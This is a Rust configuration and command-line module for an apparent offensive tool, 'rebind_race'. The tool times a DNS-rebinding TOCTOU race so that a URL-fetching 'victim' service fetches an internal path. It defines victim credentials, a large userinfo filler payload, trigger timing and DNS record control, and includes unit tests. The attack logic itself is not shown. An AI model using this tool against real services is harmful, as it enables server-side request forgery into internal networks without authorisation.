//! Configuration types and CLI options.
//!
//! This module defines enums and structs used for command-line argument parsing
//! and configuration.

use std::time::Duration;

use clap::{Parser, ValueEnum};

use crate::config::constants::{
    DEFAULT_DNS_API_URL, DEFAULT_DNS_ZONE_SUFFIX, DEFAULT_PAYLOAD_SIZE_MIB, DEFAULT_SLEEP_STEP_MS,
    DEFAULT_START_SLEEP_MS, DEFAULT_TARGET_PORT, DEFAULT_USER_AGENT, DEFAULT_VICTIM_ROOT,
};

/// Logging level for the application.
///
/// Controls the verbosity of log output, from most restrictive (Error) to most
/// verbose (Trace).
#[derive(Clone, Debug, ValueEnum)]
pub enum LogLevel {
    /// Only error messages
    Error,
    /// Error and warning messages
    Warn,
    /// Error, warning, and informational messages
    Info,
    /// All messages except trace
    Debug,
    /// All messages including trace
    Trace,
}

impl From<LogLevel> for log::LevelFilter {
    fn from(l: LogLevel) -> Self {
        match l {
            LogLevel::Error => log::LevelFilter::Error,
            LogLevel::Warn => log::LevelFilter::Warn,
            LogLevel::Info => log::LevelFilter::Info,
            LogLevel::Debug => log::LevelFilter::Debug,
            LogLevel::Trace => log::LevelFilter::Trace,
        }
    }
}

/// Log output format.
///
/// - `Plain`: Human-readable format with colors (default)
/// - `Json`: Structured JSON format for machine parsing
#[derive(Clone, Debug, ValueEnum)]
pub enum LogFormat {
    /// Human-readable format with colors (default)
    Plain,
    /// Structured JSON format for machine parsing
    Json,
}

/// When plain log lines are coloured.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum ColorMode {
    /// Colour only when stderr is a terminal and `NO_COLOR` is unset
    Auto,
    Always,
    Never,
}

/// Race configuration.
///
/// Parsed from the command line by the binary, or built programmatically with
/// struct update syntax over [`Config::default`].
///
/// # Examples
///
/// ```no_run
/// use rebind_race::Config;
///
/// let config = Config {
///     server_root: "http://10.0.0.5".to_string(),
///     target_path: "internal/logo.png".to_string(),
///     max_attempts: Some(50),
///     ..Default::default()
/// };
/// ```
///
/// ```bash
/// # Basic usage
/// rebind_race --server-root http://10.0.0.5 --target-path logo.png
///
/// # Bounded run with record cleanup
/// rebind_race --target-path logo.png --max-attempts 40 --release-records
/// ```
#[derive(Debug, Clone, Parser)]
#[command(
    name = "rebind_race",
    about = "Calibrates a DNS-rebinding TOCTOU race against a URL-fetching service."
)]
pub struct Config {
    /// Root URL of the victim service
    #[arg(long, default_value = DEFAULT_VICTIM_ROOT)]
    pub server_root: String,

    /// Username of any account on the victim service
    #[arg(long, env = "REBIND_USERNAME", default_value = "testuser")]
    pub username: String,

    /// Password of the account
    #[arg(long, env = "REBIND_PASSWORD", default_value = "secret", hide_env_values = true)]
    pub password: String,

    /// Path the victim is made to fetch, without the leading slash
    #[arg(long, default_value = "")]
    pub target_path: String,

    /// Port the victim is made to fetch from
    #[arg(long, default_value_t = DEFAULT_TARGET_PORT)]
    pub target_port: u16,

    /// Size of the userinfo filler in MiB
    #[arg(long = "payload-size", default_value_t = DEFAULT_PAYLOAD_SIZE_MIB)]
    pub payload_size_mib: usize,

    /// Initial delay between priming and the weaponized trigger, in milliseconds
    #[arg(long, default_value_t = DEFAULT_START_SLEEP_MS)]
    pub start_sleep_ms: u64,

    /// Calibration step applied after each miss, in milliseconds
    #[arg(long, default_value_t = DEFAULT_SLEEP_STEP_MS)]
    pub sleep_step_ms: u64,

    /// Stop after this many attempts (unbounded if omitted)
    #[arg(long)]
    pub max_attempts: Option<u32>,

    /// Stop starting new attempts after this many seconds (unbounded if omitted)
    #[arg(long)]
    pub max_duration_secs: Option<u64>,

    /// Release each missed attempt's DNS record before moving on
    #[arg(long, default_value_t = false)]
    pub release_records: bool,

    /// Base URL of the DNS control plane API
    #[arg(long, default_value = DEFAULT_DNS_API_URL)]
    pub dns_api_url: String,

    /// Zone suffix appended to each random subdomain label
    #[arg(long, default_value = DEFAULT_DNS_ZONE_SUFFIX)]
    pub dns_zone_suffix: String,

    /// Per-request HTTP timeout in seconds (transport default if omitted)
    #[arg(long)]
    pub timeout_seconds: Option<u64>,

    /// HTTP User-Agent header value
    #[arg(long, default_value = DEFAULT_USER_AGENT)]
    pub user_agent: String,

    /// Log level: error|warn|info|debug|trace
    #[arg(long, value_enum, default_value_t = LogLevel::Info)]
    pub log_level: LogLevel,

    /// Log format: plain|json
    #[arg(long, value_enum, default_value_t = LogFormat::Plain)]
    pub log_format: LogFormat,

    /// Colour plain log lines: auto|always|never
    #[arg(long, value_enum, default_value_t = ColorMode::Auto)]
    pub color: ColorMode,
}

impl Config {
    /// Userinfo filler size in bytes.
    pub fn payload_size_bytes(&self) -> usize {
        self.payload_size_mib.saturating_mul(1024 * 1024)
    }

    /// Initial calibrated sleep.
    pub fn start_sleep(&self) -> Duration {
        Duration::from_millis(self.start_sleep_ms)
    }

    /// Per-miss calibration step.
    pub fn sleep_step(&self) -> Duration {
        Duration::from_millis(self.sleep_step_ms)
    }

    /// Wall-clock bound on the run, if any.
    pub fn max_duration(&self) -> Option<Duration> {
        self.max_duration_secs.map(Duration::from_secs)
    }
}

impl Default for Config {
    fn default() -> Self {
        Self {
            server_root: DEFAULT_VICTIM_ROOT.to_string(),
            username: "testuser".to_string(),
            password: "secret".to_string(),
            target_path: String::new(),
            target_port: DEFAULT_TARGET_PORT,
            payload_size_mib: DEFAULT_PAYLOAD_SIZE_MIB,
            start_sleep_ms: DEFAULT_START_SLEEP_MS,
            sleep_step_ms: DEFAULT_SLEEP_STEP_MS,
            max_attempts: None,
            max_duration_secs: None,
            release_records: false,
            dns_api_url: DEFAULT_DNS_API_URL.to_string(),
            dns_zone_suffix: DEFAULT_DNS_ZONE_SUFFIX.to_string(),
            timeout_seconds: None,
            user_agent: DEFAULT_USER_AGENT.to_string(),
            log_level: LogLevel::Info,
            log_format: LogFormat::Plain,
            color: ColorMode::Auto,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_log_level_conversion() {
        assert_eq!(
            log::LevelFilter::from(LogLevel::Error),
            log::LevelFilter::Error
        );
        assert_eq!(
            log::LevelFilter::from(LogLevel::Warn),
            log::LevelFilter::Warn
        );
        assert_eq!(
            log::LevelFilter::from(LogLevel::Info),
            log::LevelFilter::Info
        );
        assert_eq!(
            log::LevelFilter::from(LogLevel::Debug),
            log::LevelFilter::Debug
        );
        assert_eq!(
            log::LevelFilter::from(LogLevel::Trace),
            log::LevelFilter::Trace
        );
    }

    #[test]
    fn test_config_default() {
        let config = Config::default();
        assert_eq!(config.start_sleep(), Duration::from_millis(6200));
        assert_eq!(config.sleep_step(), Duration::from_millis(200));
        assert_eq!(config.target_port, 80);
        assert_eq!(config.max_attempts, None);
        assert_eq!(config.max_duration(), None);
        assert!(!config.release_records);
        assert_eq!(config.timeout_seconds, None);
    }

    #[test]
    fn test_payload_size_is_mebibytes() {
        let config = Config::default();
        assert_eq!(config.payload_size_bytes(), 25 * 1024 * 1024);

        let config = Config {
            payload_size_mib: 1,
            ..Default::default()
        };
        assert_eq!(config.payload_size_bytes(), 1024 * 1024);
    }

    #[test]
    fn test_default_matches_cli_defaults() {
        // Parsing with no flags must agree with Config::default()
        let parsed = Config::try_parse_from(["rebind_race"]).expect("defaults should parse");
        let default = Config::default();
        assert_eq!(parsed.server_root, default.server_root);
        assert_eq!(parsed.target_port, default.target_port);
        assert_eq!(parsed.payload_size_mib, default.payload_size_mib);
        assert_eq!(parsed.start_sleep_ms, default.start_sleep_ms);
        assert_eq!(parsed.sleep_step_ms, default.sleep_step_ms);
        assert_eq!(parsed.dns_api_url, default.dns_api_url);
        assert_eq!(parsed.dns_zone_suffix, default.dns_zone_suffix);
        assert_eq!(parsed.color, default.color);
    }

    #[test]
    fn test_color_flag() {
        let parsed = Config::try_parse_from(["rebind_race", "--color", "never"])
            .expect("valid color mode");
        assert_eq!(parsed.color, ColorMode::Never);
        assert!(Config::try_parse_from(["rebind_race", "--color", "sometimes"]).is_err());
    }
}
